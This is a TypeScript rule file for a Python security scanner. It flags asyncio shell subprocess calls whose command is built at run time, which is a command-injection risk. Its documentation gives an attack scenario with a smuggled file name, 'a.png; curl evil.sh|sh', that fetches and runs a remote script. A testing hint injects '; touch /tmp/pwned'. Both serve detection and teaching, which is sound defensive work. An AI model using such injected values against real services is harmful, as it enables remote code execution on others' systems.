// asyncio-subprocess-shell: asyncio shell subprocesses with a computed command (async twin of B602/B605).
import { isLiteralComposed } from '../../src/analysis/python/literal-text.js';
import { safeCallFor } from '../../src/analysis/python/safe-calls.js';
import { defineRule } from '../../src/analysis/rule.js';
import type { CallInfo } from '../../src/analysis/python/call-name.js';
import { isFormattedString } from '../../src/analysis/python/string-template.js';

export default defineRule({
  meta: {
    id: 'asyncio-subprocess-shell',
    title: 'asyncio shell subprocess with a computed command',
    category: 'command-injection',
    cwe: ['CWE-78'],
    owasp: { '2021': ['A03:2021'], '2025': ['A05:2025'] },
    severity: 'medium',
    riskScore: 6,
    confidence: 'medium',
    threat: 'integrity',
    timeline: 'immediate',
    technology: ['asyncio'],
    aliases: {},
    messages: {
      formatted: '`{{fn}}` runs a command string built from run-time values through a shell.',
      computed: '`{{fn}}` runs a command held in a variable through a shell; check it contains no user input.',
    },
    docs: {
      whatItDoes:
        'Flags `asyncio.create_subprocess_shell` and `loop.subprocess_shell` when the command is not a constant string.',
      whyBad:
        'Both hand the command to `/bin/sh`; interpolated values can carry `;`, `|` or `$()` and run extra commands. Async services often build these commands from request data.',
      businessImpact: 'Remote code execution inside the async service, usually an internet-facing API.',
      attackScenario:
        'An aiohttp handler awaits `create_subprocess_shell(f"convert {name} out.png")` with a user file name `a.png; curl evil.sh|sh`.',
      example: 'await asyncio.create_subprocess_shell(f"convert {name} out.png")',
      useInstead: 'await asyncio.create_subprocess_exec("convert", "--", name, "out.png")',
      testing: 'Await the handler with a value containing `; touch /tmp/pwned` and assert the file is not created.',
      references: [
        'https://docs.python.org/3/library/asyncio-subprocess.html#asyncio.create_subprocess_shell',
        'https://cwe.mitre.org/data/definitions/78.html',
      ],
    },
  },
  hints: ['subprocess_shell'],
  create(ctx) {
    // Local constants, numbers and `shlex.quote`d values formatted in carry no shell syntax.
    const quoted = safeCallFor(['command'], (node) => ctx.qualifiedName(node));
    const check = (index: number) => (call: CallInfo) => {
      const command = call.argOrKwarg(index, 'cmd');
      if (!command || ctx.staticString(command) !== undefined || isLiteralComposed(command, { safeCall: quoted }))
        return;
      const formatted = isFormattedString(ctx, command);
      ctx.report({
        node: call.node,
        messageId: formatted ? 'formatted' : 'computed',
        data: { fn: call.name ?? 'subprocess_shell' },
        severity: formatted ? 'high' : 'medium',
      });
    };
    return { calls: { 'asyncio.create_subprocess_shell': check(0), '*.subprocess_shell': check(1) } };
  },
});
